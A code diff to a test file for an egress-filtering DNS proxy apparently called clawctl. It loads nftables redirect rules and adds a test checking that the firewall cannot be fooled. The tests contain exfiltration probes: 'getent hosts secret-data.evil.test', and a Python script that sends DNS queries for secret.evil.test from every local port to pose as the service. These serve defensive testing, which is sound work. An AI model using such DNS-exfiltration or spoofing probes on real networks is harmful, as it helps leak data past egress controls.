@@ -3,24 +3,19 @@
  * and questions for names too. Names come from the service's own answers, or else from what the client says first.
  */
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { spawnSync } from 'bun';
+import packet from 'dns-packet';
 import { linesOf } from './rig/lines.ts';
 import { ORIGIN } from './rig/origins.ts';
 import { inRig, openWorld, type World } from './rig/world.ts';
 
 /** Nobody's number: what this user sends is redirected. */
 const CLIENT = 54_322;
-const RULES = `
-table inet client {
-  chain send {
-    type nat hook output priority -110
-    meta skuid ${CLIENT} udp dport 53 redirect to :15053
-    meta skuid ${CLIENT} tcp dport 53 redirect to :15053
-    meta skuid ${CLIENT} tcp dport != { 53, 15001, 15053 } redirect to :15001
-  }
-}`;
+/** Those of the example, but that the service runs as root here. */
+const EXAMPLE = readFileSync(join(import.meta.dir, '../docs/deploy/compose.redirected.yaml'), 'utf8');
+const RULES = /<<'RULES'\n(.*)\n +RULES\n/s.exec(EXAMPLE)![1]!.replaceAll('65532', '0');
 
 const POLICY = `version: 1
 allow:
@@ -40,7 +35,7 @@ describe.skipIf(!inRig || process.getuid!() !== 0)('a redirected client', () => 
     const folder = join(world.environment.XDG_CONFIG_HOME!, 'clawctl');
     mkdirSync(folder, { recursive: true });
     writeFileSync(join(folder, 'egress.yaml'), POLICY);
-    spawnSync(['nft', '-f', '-'], { stdin: Buffer.from(RULES) });
+    expect(spawnSync(['nft', '-f', '-'], { stdin: Buffer.from(RULES) }).exitCode).toBe(0);
     const program = process.env.CLAWCTL_TEST_BINARY ?? join(import.meta.dir, '../clawctl');
     child = Bun.spawn([program, 'egress', 'serve', '--workers', '2'], {
       env: world.environment,
@@ -52,7 +47,7 @@ describe.skipIf(!inRig || process.getuid!() !== 0)('a redirected client', () => 
   afterAll(async () => {
     child.kill('SIGKILL');
     await child.exited;
-    spawnSync(['nft', 'delete', 'table', 'inet', 'client']);
+    spawnSync(['nft', 'delete', 'table', 'inet', 'clawctl']);
     world.close();
   });
 
@@ -100,5 +95,34 @@ describe.skipIf(!inRig || process.getuid!() !== 0)('a redirected client', () => 
     const before = world.nameServer.questions.length;
     await client('getent hosts secret-data.evil.test; getent hosts more.evil.test');
     expect(world.nameServer.questions.slice(before).filter((name) => name.includes('evil'))).toEqual([]);
+  });
+
+  test('cannot pass a question off as one of the service', async () => {
+    // The firewall remembers the service's question for half a minute, by its ports; one of these is the same.
+    expect(await client('curl -sS http://allowed.test/hello')).toContain('hello from allowed.test');
+    const script = `
+import socket
+question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\6secret\\4evil\\4test\\0\\0\\1\\0\\1"
+for port in range(1024, 65536):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+        try:
+            asking.bind(("127.0.0.1", port))
+            asking.sendto(question, ("127.0.0.1", 53))
+        except OSError:
+            pass
+print("sent")`;
+    expect(await client(`python3 -c '${script}'`)).toContain('sent');
+    // Asked last, from an address of its own, and so answered after all of these.
+    const answered = Promise.withResolvers<void>();
+    const asking = await Bun.udpSocket({ hostname: '127.0.0.2', socket: { data: () => answered.resolve() } });
+    asking.send(
+      packet.encode({ type: 'query', questions: [{ type: 'A', name: 'last.test' }] }),
+      53,
+      '127.0.0.1',
+    );
+    await answered.promise;
+    asking.close();
+    expect(world.nameServer.questions).toContain('last.test');
+    expect(world.nameServer.questions.filter((name) => name.includes('secret.evil'))).toEqual([]);
   });
 });
